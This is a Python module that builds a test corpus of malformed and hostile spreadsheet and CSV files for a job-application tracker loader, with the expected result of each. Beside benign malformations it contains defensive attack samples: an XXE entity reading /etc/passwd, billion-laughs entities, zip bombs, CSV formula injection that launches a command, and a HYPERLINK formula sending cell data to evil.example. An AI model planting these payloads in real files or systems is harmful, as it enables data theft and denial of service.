"""Corpus of bad, broken and hostile tracker files, with the documented expected outcome.

Each :class:`Case` names a file, the function that writes it into a folder, and
what jobstats must do with it: refuse it with a given exception and a message
holding given fragments (file name, sheet/row/column, what to do), or load it
with a given number of applications / dropped rows / warnings. Files are built
on demand (tests write them into ``tmp_path``); nothing big is committed.

Run ``python tests/bad_inputs/make_corpus.py OUTDIR`` to write every file for a
look by hand (``--with-slow`` adds the 300,000-row sheet and the zip bombs).
"""

from __future__ import annotations

import csv
import io
import os
import random
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from xml.sax.saxutils import escape

import pandas as pd

from jobstats.schema import (
    HeaderNotFoundError,
    InputError,
    JobstatsError,
    MissingColumnError,
    UnreadableFileError,
    UnsupportedFormatError,
)

AS_OF = "2025-06-30"  # the --as-of every case is run with


@dataclass(frozen=True)
class Case:
    """One bad input and what jobstats must do with it.

    ``outcome`` is ``"error"`` (``load`` raises ``error`` whose message holds the
    file name and every fragment; CLI exit 2), ``"ok"`` (``load`` returns
    ``applications`` rows, ``dropped`` rows reported, each ``warnings`` fragment in
    some warning; CLI exit 0), or ``"empty"`` (nothing to analyse: ``load``
    returns no application or raises a JobstatsError naming the file; CLI exit 2
    naming the file). ``rows`` is the number of non-blank data rows in the file:
    for ``"ok"`` every one of them must be kept or reported as dropped.
    ``check`` makes extra assertions on the load result, ``cli_check`` on the
    CLI's JSON. ``slow`` cases (the 300,000-row sheet) are only run through the
    CLI, which loads the file the same way, under the memory limit. Fragments are matched
    case-insensitively, ignoring white space (the CLI wraps lines).
    """

    name: str
    filename: str
    build: Callable[[Path], None]
    outcome: str
    doc: str
    error: type[JobstatsError] | None = None
    fragments: tuple[str, ...] = ()
    rows: int | None = None
    applications: int | None = None
    dropped: int | None = None
    warnings: tuple[str, ...] = ()
    check: Callable[[object], None] | None = None
    cli_check: Callable[[dict], None] | None = None  # on the CLI's JSON output
    slow: bool = False


# --- shared content -------------------------------------------------------

HEADER = ["Company", "Job Title", "Date Applied", "Status", "Reply Date", "Notes"]
#: A small tracker: 5 applications, 3 replies (one is a rejection).
ROWS = [
    ["Acme Corp", "Data Analyst", "2025-03-01", "Rejected", "2025-03-05", "via site"],
    ["Globex", "Data Scientist", "2025-03-03", "Applied", "", ""],
    ["Initech", "BI Developer", "2025-03-10", "Interview", "2025-03-14", "referral"],
    ["Umbrella", "Analyst", "2025-04-02", "Ghosted", "", ""],
    ["Hooli", "ML Engineer", "2025-04-15", "Offer", "2025-04-20", ""],
]


def _d(text: str) -> datetime:
    return datetime.strptime(text, "%Y-%m-%d")


def _typed(rows: list[list[str]]) -> list[list[object]]:
    """Rows with date strings as datetimes (how a workbook stores them)."""
    out = []
    for r in rows:
        out.append([_d(v) if i in (2, 4) and v else (v or None) for i, v in enumerate(r)])
    return out


def _write_csv(path: Path, rows: list[list[str]], *, encoding: str = "utf-8", delimiter: str = ",",
               newline: str = "\r\n") -> None:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator=newline).writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))


def _openpyxl_book(path: Path, sheets: list[tuple[str, list[list[object]]]],
                   tweak: Callable[[object], None] | None = None) -> None:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets:
        ws = wb.create_sheet(name)
        for r in rows:
            ws.append(r)
    if tweak is not None:
        tweak(wb)
    wb.save(path)


# --- a hand-made xlsx writer (for what openpyxl cannot write) -------------
# openpyxl cannot store a formula's cached value, and always writes its own
# XML; the hostile cases need exact control over each part.


@dataclass(frozen=True)
class Serial:
    """A date cell: an Excel serial number with a date number format."""

    value: float


@dataclass(frozen=True)
class Formula:
    """A formula with its cached value; ``kind`` is "n", "d" (date) or "str"."""

    formula: str
    cached: object
    kind: str = "n"


@dataclass(frozen=True)
class Err:
    """An error cell such as ``#REF!``."""

    code: str


_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RNS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PNS = "http://schemas.openxmlformats.org/package/2006/relationships"
_XMLDECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def _col(i: int) -> str:
    s = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


def _cell(ref: str, v: object) -> str:
    if v is None or v == "":
        return ""
    if isinstance(v, Serial):
        return f'<c r="{ref}" s="1"><v>{v.value}</v></c>'
    if isinstance(v, Err):
        return f'<c r="{ref}" t="e"><v>{escape(v.code)}</v></c>'
    if isinstance(v, Formula):
        f = f"<f>{escape(v.formula)}</f>"
        if v.kind == "str":
            return f'<c r="{ref}" t="str">{f}<v>{escape(str(v.cached))}</v></c>'
        style = ' s="1"' if v.kind == "d" else ""
        return f'<c r="{ref}"{style}>{f}<v>{v.cached}</v></c>'
    if isinstance(v, (int, float)):
        return f'<c r="{ref}"><v>{v}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(v))}</t></is></c>'


def _sheet_xml(rows: list[list[object]], prolog: str = "") -> str:
    body = []
    for i, r in enumerate(rows, start=1):
        cells = "".join(_cell(f"{_col(j)}{i}", v) for j, v in enumerate(r))
        body.append(f'<row r="{i}">{cells}</row>')
    return (f"{_XMLDECL}{prolog}<worksheet xmlns=\"{_NS}\"><sheetData>{''.join(body)}"
            "</sheetData></worksheet>")


def write_xlsx(path: Path, sheets: list[tuple[str, list[list[object]]]], *, date1904: bool = False,
               prolog: str = "", extra: dict[str, bytes] | None = None) -> None:
    """Write a minimal valid xlsx by hand (inline strings, one date style).

    ``prolog`` is inserted before the root of every sheet (hostile DOCTYPEs);
    ``extra`` adds raw members.
    """
    n = len(sheets)
    ct = (f'{_XMLDECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
          'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
          'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/styles.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
          + "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                    for i in range(1, n + 1))
          + "</Types>")
    rels = (f'{_XMLDECL}<Relationships xmlns="{_PNS}"><Relationship Id="rId1" Type="{_RNS}/'
            'officeDocument" Target="xl/workbook.xml"/></Relationships>')
    pr = '<workbookPr date1904="1"/>' if date1904 else "<workbookPr/>"
    wb = (f'{_XMLDECL}<workbook xmlns="{_NS}" xmlns:r="{_RNS}">{pr}<sheets>'
          + "".join(f'<sheet name="{escape(name)}" sheetId="{i}" r:id="rId{i}"/>'
                    for i, (name, _) in enumerate(sheets, start=1))
          + "</sheets></workbook>")
    wbrels = (f'{_XMLDECL}<Relationships xmlns="{_PNS}">'
              + "".join(f'<Relationship Id="rId{i}" Type="{_RNS}/worksheet" '
                        f'Target="worksheets/sheet{i}.xml"/>' for i in range(1, n + 1))
              + f'<Relationship Id="rId{n + 1}" Type="{_RNS}/styles" Target="styles.xml"/>'
              "</Relationships>")
    styles = (f'{_XMLDECL}<styleSheet xmlns="{_NS}"><fonts count="1"><font><sz val="11"/>'
              '<name val="Calibri"/></font></fonts><fills count="1"><fill><patternFill '
              'patternType="none"/></fill></fills><borders count="1"><border><left/><right/>'
              '<top/><bottom/><diagonal/></border></borders><cellStyleXfs count="1"><xf '
              'numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs '
              'count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/><xf '
              'numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
              '</cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/>'
              '</cellStyles></styleSheet>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", rels)
        z.writestr("xl/workbook.xml", wb)
        z.writestr("xl/_rels/workbook.xml.rels", wbrels)
        z.writestr("xl/styles.xml", styles)
        for i, (_, rows) in enumerate(sheets, start=1):
            z.writestr(f"xl/worksheets/sheet{i}.xml", _sheet_xml(rows, prolog))
        for name, data in (extra or {}).items():
            z.writestr(name, data)


def _serial(text: str, *, epoch: str = "1899-12-30") -> int:
    """Excel serial of a date, computed with datetime (independently of the loader)."""
    return (datetime.strptime(text, "%Y-%m-%d") - datetime.strptime(epoch, "%Y-%m-%d")).days


# --- a hand-made OLE2 compound file ([MS-CFB]) ----------------------------
# olefile is not installed (and only reads); msoffcrypto-tool, which could write
# a real encrypted workbook, is not a dependency. A compound file with the same
# stream names is what every reader (Excel, LibreOffice, calamine) looks at to
# decide "encrypted OOXML" vs "legacy .xls", so the structure is built by hand:
# 512-byte sectors, one FAT sector, a directory, streams >= 4096 bytes so they
# live in the regular FAT (no mini stream needed).

_FREE, _EOC, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def write_ole2(path: Path, streams: dict[str, bytes]) -> None:
    """Write a compound file holding ``streams`` (each padded to >= 4096 bytes)."""
    ss = 512
    datas = [(name, data.ljust(4096, b"\x00")) for name, data in streams.items()]
    n_entries = 1 + len(datas)
    n_dir = -(-n_entries // 4)
    fat = [_FATSECT]
    for i in range(n_dir):
        fat.append(len(fat) + 1 if i + 1 < n_dir else _EOC)
    starts, body = [], b""
    for _, data in datas:
        k = -(-len(data) // ss)
        start = len(fat)
        starts.append(start)
        fat += [start + j + 1 for j in range(k - 1)] + [_EOC]
        body += data.ljust(k * ss, b"\x00")
    assert len(fat) <= ss // 4, "one FAT sector only"
    fat += [_FREE] * (ss // 4 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        return (raw.ljust(64, b"\x00") + struct.pack("<HBB", len(raw), kind, 1)
                + struct.pack("<III", _NOSTREAM, right, child) + b"\x00" * 16
                + struct.pack("<I", 0) + b"\x00" * 16 + struct.pack("<IQ", start, size))

    # Root's child is entry 1; each stream's right sibling is the next (a valid,
    # if unbalanced, red-black tree: all nodes black).
    dirs = [entry("Root Entry", 5, 1 if datas else _NOSTREAM, _NOSTREAM, _EOC, 0)]
    for i, ((name, data), start) in enumerate(zip(datas, starts, strict=True), start=1):
        right = i + 1 if i < len(datas) else _NOSTREAM
        dirs.append(entry(name, 2, _NOSTREAM, right, start, len(data)))
    empty = b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", *[_NOSTREAM] * 3)
    empty = empty.ljust(128, b"\x00")
    dirs += [empty] * (n_dir * 4 - len(dirs))
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\x00" * 16, 0x3E, 3, 0xFFFE, 9, 6, b"\x00" * 6,
        0, 1, 1, 0, 4096, _EOC, 0, _EOC, 0,
    ) + struct.pack("<109I", 0, *[_FREE] * 108)
    assert len(header) == ss
    path.write_bytes(header + struct.pack(f"<{ss // 4}I", *fat) + b"".join(dirs) + body)


# --- builders ---------------------------------------------------------------


def b_empty(p: Path) -> None:
    p.write_bytes(b"")


def b_header_only(p: Path) -> None:
    _write_csv(p, [HEADER])


def b_blank_lines_only(p: Path) -> None:
    p.write_text("\n\n   \n,,,\n", encoding="utf-8")


def b_empty_sheet(p: Path) -> None:
    _openpyxl_book(p, [("Sheet1", [])])


def b_corrupt_zip(p: Path) -> None:
    rnd = random.Random(1)
    p.write_bytes(b"PK\x03\x04" + bytes(rnd.randrange(256) for _ in range(3000)))


def b_truncated_xlsx(p: Path) -> None:
    buf = io.BytesIO()
    _openpyxl_book(buf, [("Applications", [HEADER, *_typed(ROWS)])])  # type: ignore[arg-type]
    data = buf.getvalue()
    p.write_bytes(data[: len(data) // 2])


def b_xlsx_named_csv(p: Path) -> None:
    _openpyxl_book(p, [("Applications", [HEADER, *_typed(ROWS)])])


def b_csv_named_xlsx(p: Path) -> None:
    _write_csv(p, [HEADER, *ROWS])


def b_legacy_xls(p: Path) -> None:
    # BIFF8 BOF record at the start of the Workbook stream, as Excel 97 writes it.
    write_ole2(p, {"Workbook": bytes.fromhex("0908100000060500bb0dcc07c1000000060000")})


def b_password_xlsx(p: Path) -> None:
    # Agile-encryption version header (4.4) at the start of EncryptionInfo.
    write_ole2(p, {"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<?xml",
                   "EncryptedPackage": struct.pack("<Q", 5000) + os.urandom(512)})


def b_merged_header(p: Path) -> None:
    rows = [["Job hunt 2025 - keep going!"], [], HEADER, *_typed(ROWS)]

    def tweak(wb: object) -> None:
        ws = wb["Tracker"]  # type: ignore[index]
        ws.merge_cells("A1:F1")
        # Same company, two roles: the company cell merged over both rows, so
        # the second row's cell is empty in the file.
        ws.merge_cells("A6:A7")

    rows[6][0] = None
    _openpyxl_book(p, [("Tracker", rows)], tweak)


def b_duplicated_headers(p: Path) -> None:
    _write_csv(p, [HEADER + ["Notes"], *[r + [f"second note {i}"] for i, r in enumerate(ROWS)]])


def b_header_below_row_20(p: Path) -> None:
    pre = [[f"Instructions line {i}: colour rows green when you get an interview."]
           for i in range(1, 23)]
    _openpyxl_book(p, [("Tracker", [*pre, [], HEADER, *_typed(ROWS)])])


def b_excel_errors(p: Path) -> None:
    rows = [HEADER, *_typed(ROWS)]
    rows.append(["Vandelay", "Analyst", Err("#REF!"), "Applied", None, None])
    rows.append(["#N/A", "Analyst", _d("2025-05-02"), "Applied", None, None])
    rows.append(["Stark", "Engineer", _d("2025-05-03"), Err("#VALUE!"), None, None])
    rows.append(["Wayne", "Engineer", _d("2025-05-04"), "Rejected", Err("#N/A"), None])
    fixed = [[Serial(_serial(v.strftime("%Y-%m-%d"))) if isinstance(v, datetime) else v for v in r]
             for r in rows]
    write_xlsx(p, [("Applications", fixed)])


def b_formulas_cached(p: Path) -> None:
    s = _serial("2025-03-01")
    rows: list[list[object]] = [HEADER]
    rows.append(["Acme Corp", "Analyst", Formula("DATE(2025,3,1)", s, "d"),
                 Formula('IF(E2<>"","Replied","Applied")', "Replied", "str"),
                 Formula("C2+4", s + 4, "d"), None])
    rows.append([Formula('"Glo"&"bex"', "Globex", "str"), "Scientist",
                 Formula("C2+2", s + 2, "d"), "Applied", None, None])
    rows.append(["Initech", "Developer", Formula("C3+7", s + 9, "d"), "Interview",
                 Formula("C4+4", s + 13, "d"), Formula("1+1", 2, "n")])
    write_xlsx(p, [("Applications", rows)])


def b_future_dates(p: Path) -> None:
    _write_csv(p, [HEADER, *ROWS,
                   ["Cyberdyne", "Engineer", "2031-01-15", "Applied", "", "typo"],
                   ["Tyrell", "Engineer", "2030-12-01", "Applied", "", "typo"]])


def b_reply_before_application(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[0][4] = "2025-02-20"  # applied 2025-03-01
    _write_csv(p, [HEADER, *rows])


def b_reply_same_day(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[1][3], rows[1][4] = "Rejected", "2025-03-03"  # applied 2025-03-03
    _write_csv(p, [HEADER, *rows])


def b_dates_without_year(p: Path) -> None:
    _write_csv(p, [HEADER, *ROWS, ["Soylent", "Analyst", "8-Jul", "Applied", "", ""],
                   ["Massive Dynamic", "Analyst", "15-Jul", "Applied", "", ""]])


def b_garbled_dates(p: Path) -> None:
    _write_csv(p, [HEADER, *ROWS, ["Soylent", "Analyst", "8/82019", "Applied", "", ""]])


def b_two_digit_years(p: Path) -> None:
    # The LinkedIn data archive's format: M/D/YY with a 12-hour time.
    rows = [["Application Date", "Contact Email", "Company Name", "Job Title", "Job Url"],
            ["6/18/22, 5:28 AM", "", "Acme Corp", "Data Analyst", "https://x/1"],
            ["6/2/22, 11:05 PM", "", "Globex", "Data Scientist", "https://x/2"],
            ["12/30/22, 9:00 AM", "", "Initech", "BI Developer", "https://x/3"],
            ["7/4/22, 12:15 PM", "", "Hooli", "ML Engineer", "https://x/4"]]
    _write_csv(p, rows)


def b_mixed_md_dm(p: Path) -> None:
    # 25/03 can only be D/M, 03/25 only M/D: the column is inconsistent.
    dates = ["25/03/2025", "03/26/2025", "04/02/2025", "27/04/2025", "05/28/2025"]
    _write_csv(p, [HEADER, *[[*r[:2], d, *r[3:4], "", ""] for r, d in zip(ROWS, dates)]])


def b_date1904(p: Path) -> None:
    rows: list[list[object]] = [HEADER]
    for r in ROWS:
        reply = Serial(_serial(r[4], epoch="1904-01-01")) if r[4] else None
        rows.append([r[0], r[1], Serial(_serial(r[2], epoch="1904-01-01")), r[3], reply, None])
    write_xlsx(p, [("Applications", rows)], date1904=True)


def b_timezones(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[0][2] = "2025-03-01T09:00:00+02:00"
    rows[1][2] = "2025-03-03T00:30:00+02:00"  # 2025-03-02 in UTC: the local day must win
    rows[2][2] = "2025-03-10T23:30:00-05:00"  # 2025-03-11 in UTC
    rows[3][2] = "2025-04-02T12:00:00Z"
    rows[4][2] = "2025-04-15T08:00:00+00:00"
    _write_csv(p, [HEADER, *rows])


NONASCII = ["Société Générale", "Müller – Consulting", "Łódź Analytics", "東京データ", "Zoë's Café"]


def b_cp1252(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    for r, name in zip(rows, NONASCII[:2] + ["Crème Brûlée", "Naïve Bayes", "Señor Data"]):
        r[0] = name
    _write_csv(p, [HEADER, *rows], encoding="cp1252")


def b_latin1(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    for r, name in zip(rows, ["Zürich Re", "Ångström AB", "Øresund", "Façade", "Großbank"]):
        r[0] = name
    _write_csv(p, [HEADER, *rows], encoding="latin-1")


def b_utf16(p: Path) -> None:
    # Excel's "Unicode Text": UTF-16 LE with BOM, tab-separated.
    rows = [r[:] for r in ROWS]
    for r, name in zip(rows, NONASCII):
        r[0] = name
    _write_csv(p, [HEADER, *rows], encoding="utf-16", delimiter="\t")


def b_utf8_bom(p: Path) -> None:
    _write_csv(p, [HEADER, *ROWS], encoding="utf-8-sig")


def b_semicolon_decimal_comma(p: Path) -> None:
    rows = [["Company", "Job Title", "Date Applied", "Status", "Salary", "Notes"],
            ["Acme GmbH", "Analyst", "13.03.2025", "Absage", "55.000,50", "über Website"],
            ["Globex AG", "Data Scientist", "01.04.2025", "Applied", "62.500,00", ""],
            ["Initech SE", "Entwickler", "02.05.2025", "Interview", "48.000,75", "Empfehlung"]]
    _write_csv(p, rows, delimiter=";")


def b_quoted_newlines(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[0][5] = 'Line one\nLine two, with a comma\n"quoted" line three'
    rows[2][5] = "Recruiter: Jane\r\nCall back Monday"
    _write_csv(p, [HEADER, *rows])


LONG_ROWS = 300_000


def b_long_sheet(p: Path) -> None:
    # Written as plain text directly: the csv module is too slow for a quick build.
    start = datetime(2020, 1, 1).toordinal()
    lines = ["Company,Job Title,Date Applied,Status,Reply Date"]
    statuses = ("Applied", "Rejected", "Interview", "Ghosted")
    for i in range(LONG_ROWS):
        d = datetime.fromordinal(start + i % 1800)
        reply = f"{datetime.fromordinal(start + i % 1800 + 3):%Y-%m-%d}" if i % 3 == 0 else ""
        lines.append(f"Company {i % 5000},Role {i % 97},{d:%Y-%m-%d},{statuses[i % 4]},{reply}")
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")


WIDE_COLS = 2_000


def b_wide_sheet(p: Path) -> None:
    import openpyxl

    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("Wide")
    extra = [f"Extra {j}" for j in range(WIDE_COLS - len(HEADER))]
    ws.append(HEADER + extra)
    for i, r in enumerate(_typed(ROWS)):
        ws.append(r + [f"v{i}-{j}" if j % 7 == 0 else None for j in range(len(extra))])
    wb.save(p)


def b_hidden_sheet_rows_cols(p: Path) -> None:
    # Visible sheet "2025" holds the 5 applications (one row hidden, the date
    # column hidden); a hidden sheet "Old 2023" holds 8 older ones.
    old = [HEADER] + [[f"Old Co {i}", "Analyst", _d(f"2023-01-{i + 1:02d}"), "Rejected", None,
                       None] for i in range(8)]

    def tweak(wb: object) -> None:
        ws = wb["2025"]  # type: ignore[index]
        ws.row_dimensions[3].hidden = True
        ws.column_dimensions["C"].hidden = True
        wb["Old 2023"].sheet_state = "hidden"  # type: ignore[index]

    _openpyxl_book(p, [("2025", [HEADER, *_typed(ROWS)]), ("Old 2023", old)], tweak)


def b_hidden_rows(p: Path) -> None:
    def tweak(wb: object) -> None:
        ws = wb["Applications"]  # type: ignore[index]
        for r in (2, 4):
            ws.row_dimensions[r].hidden = True

    _openpyxl_book(p, [("Applications", [HEADER, *_typed(ROWS)])], tweak)


def b_duplicates(p: Path) -> None:
    _write_csv(p, [HEADER, *ROWS, ROWS[1][:], ROWS[2][:]])


def b_status_contradicts_dates(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[3][4] = "2025-04-10"  # "Ghosted" but a reply date
    header = HEADER[:5] + ["Interview Date", "Notes"]
    out = [header]
    for r in rows:
        out.append(r[:5] + [""] + r[5:])
    out[2][5] = "2025-03-12"  # "Applied" but an interview date (row 3: Globex)
    _write_csv(p, out)


_XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_LOL = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                  for i in range(1, 10))
        + "]>")


def _entity_rows(ref: str) -> list[list[object]]:
    return [HEADER, [ref, "Analyst", Serial(_serial("2025-03-01")), "Applied", None, None]]


def b_xxe(p: Path) -> None:
    write_xlsx(p, [("Applications", _entity_rows("&e;"))], prolog=_XXE)


def b_billion_laughs(p: Path) -> None:
    write_xlsx(p, [("Applications", _entity_rows("&lol9;"))], prolog=_LOL)


def b_doctype_after_long_comment(p: Path) -> None:
    # Tries to push the DOCTYPE past a naive "first 4 KB" scan.
    write_xlsx(p, [("Applications", _entity_rows("&e;"))],
               prolog="<!--" + "x" * 200_000 + "-->" + _XXE)


def b_doctype_utf16(p: Path) -> None:
    write_xlsx(p, [("Applications", [HEADER])], extra={
        "xl/worksheets/sheet2.xml": (
            '<?xml version="1.0" encoding="UTF-16"?>' + _XXE
            + f'<worksheet xmlns="{_NS}"><sheetData/></worksheet>').encode("utf-16")})


def b_ods_xxe(p: Path) -> None:
    content = ('<?xml version="1.0" encoding="UTF-8"?>' + _XXE
               + '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
               'office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
               '<office:spreadsheet><table:table table:name="S"><table:table-row>'
               '<table:table-cell office:value-type="string"><text:p>&e;</text:p>'
               "</table:table-cell></table:table-row></table:table></office:spreadsheet>"
               "</office:body></office:document-content>")
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet",
                   compress_type=zipfile.ZIP_STORED)
        z.writestr("content.xml", content)


def _zeros_member(z: zipfile.ZipFile, name: str, size: int) -> None:
    """Stream ``size`` zero bytes into a member without holding them in memory."""
    chunk = b"\x00" * (1 << 20)
    info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED  # ZipInfo defaults to stored
    with z.open(info, "w", force_zip64=True) as fh:
        left = size
        while left:
            n = min(left, len(chunk))
            fh.write(chunk[:n])
            left -= n


def _bomb(p: Path, size: int) -> None:
    b_xlsx_named_csv(p)  # a valid workbook, then a huge extra member
    with zipfile.ZipFile(p, "a", zipfile.ZIP_DEFLATED) as z:
        _zeros_member(z, "xl/media/image1.bin", size)


def b_zip_bomb_total(p: Path) -> None:
    _bomb(p, 600 * 1024**2)  # over the 500 MB total: ~600 KB on disk


def b_zip_bomb_ratio(p: Path) -> None:
    _bomb(p, 100 * 1024**2)  # under the total, but ~1000x compression


def b_zip_lying_size(p: Path) -> None:
    """A 20 MB sheet whose headers declare 2,000 bytes (to slip under size limits).

    Python's zipfile and calamine's Rust zip crate both stop at the declared
    size and fail; the file must be refused as damaged, never inflated.
    """
    tmp = p.with_suffix(".tmp")
    write_xlsx(tmp, [("Applications", [HEADER])])
    big = (f'<?xml version="1.0"?><worksheet xmlns="{_NS}"><sheetData>'.encode()
           + b" " * (20 * 1024**2) + b"</sheetData></worksheet>")
    name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(tmp) as src, zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info.filename, big if info.filename == name else src.read(info))
    tmp.unlink()
    data = bytearray(p.read_bytes())
    # (signature, offset of the uncompressed size, of the name length, of the name)
    for sig, o_size, o_nlen, o_name in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        i = data.find(sig)
        while i != -1:
            nlen = struct.unpack_from("<H", data, i + o_nlen)[0]
            if data[i + o_name : i + o_name + nlen] == name.encode():
                struct.pack_into("<I", data, i + o_size, 2000)
            i = data.find(sig, i + 4)
    p.write_bytes(bytes(data))


def b_too_many_members(p: Path) -> None:
    b_xlsx_named_csv(p)
    with zipfile.ZipFile(p, "a", zipfile.ZIP_STORED) as z:
        for i in range(10_001):
            z.writestr(f"customXml/item{i}.txt", b"x")


def b_nested_zip(p: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("a.txt", b"a" * 100)
    write_xlsx(p, [("Applications", [HEADER])], extra={"xl/payload.bin": inner.getvalue()})


def b_encrypted_member(p: Path) -> None:
    # zipfile cannot encrypt: set the "encrypted" flag bit in the local and
    # central headers of every member, as a ZipCrypto archive has it.
    write_xlsx(p, [("Applications", [HEADER, _entity_rows("Acme")[1]])])
    data = bytearray(p.read_bytes())
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = data.find(sig)
        while i != -1:
            data[i + off] |= 1
            i = data.find(sig, i + 4)
    p.write_bytes(bytes(data))


def b_pdf(p: Path) -> None:
    p.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n")


def b_binary_garbage(p: Path) -> None:
    rnd = random.Random(7)
    p.write_bytes(bytes(rnd.randrange(256) for _ in range(5000)) + b"\x00" * 10)


def b_html_as_xls(p: Path) -> None:
    p.write_text("<html><body><table><tr><td>Company</td><td>Date Applied</td></tr>"
                 "<tr><td>Acme</td><td>2025-03-01</td></tr></table></body></html>",
                 encoding="utf-8")


def b_directory(p: Path) -> None:
    p.mkdir()
    (p / "inside.csv").write_text("Company,Date Applied\nAcme,2025-03-01\n", encoding="utf-8")


def b_missing(p: Path) -> None:
    del p  # nothing is written: the path does not exist


def b_no_date_column(p: Path) -> None:
    _write_csv(p, [["Company", "Job Title", "Status", "Notes"],
                   *[[r[0], r[1], r[3], r[5]] for r in ROWS]])


def b_no_header(p: Path) -> None:
    _write_csv(p, [["hello world"], ["this is my shopping list"], ["milk", "eggs"],
                   ["bread", "3"]])


def b_blank_rows_and_total(p: Path) -> None:
    blank = [""] * len(HEADER)
    _write_csv(p, [HEADER, ROWS[0], blank, ROWS[1], ROWS[2], blank, blank, ROWS[3], ROWS[4],
                   blank, ["Total: 5", "", "", "", "", ""]])


def b_missing_applied_date(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[3][2] = ""
    _write_csv(p, [HEADER, *rows])


def b_hyperlink_formula(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[0][0] = '=HYPERLINK("http://x","y")'
    rows[1][5] = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    _write_csv(p, [HEADER, *rows])


INJECTIONS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "=1+1"]


def b_csv_injection(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    for r, s in zip(rows, INJECTIONS):
        r[0] = s
    _write_csv(p, [HEADER, *rows])


def b_xlsx_hyperlink_formula(p: Path) -> None:
    rows: list[list[object]] = [HEADER]
    for i, r in enumerate(ROWS):
        company: object = r[0]
        if i == 0:
            company = Formula('HYPERLINK("http://x","y")', "y", "str")
        rows.append([company, r[1], Serial(_serial(r[2])), r[3],
                     Serial(_serial(r[4])) if r[4] else None, None])
    write_xlsx(p, [("Applications", rows)])


# --- checks on load results ------------------------------------------------


def _apps(result: object) -> pd.DataFrame:
    return result.applications  # type: ignore[attr-defined]


def _applied_dates(result: object) -> list[str]:
    return sorted(_apps(result)["applied_on"].dt.strftime("%Y-%m-%d"))


def _reply_of(result: object, company: str) -> pd.Timestamp:
    a = _apps(result)
    return a.loc[a["company"] == company, "first_reply_on"].iloc[0]


BASE_APPLIED = sorted(r[2] for r in ROWS)


def c_base_dates(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED


def c_merged(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED
    assert "Job hunt 2025 - keep going!" not in set(_apps(result)["company"].dropna())


def c_formulas(result: object) -> None:
    assert _applied_dates(result) == ["2025-03-01", "2025-03-03", "2025-03-10"]
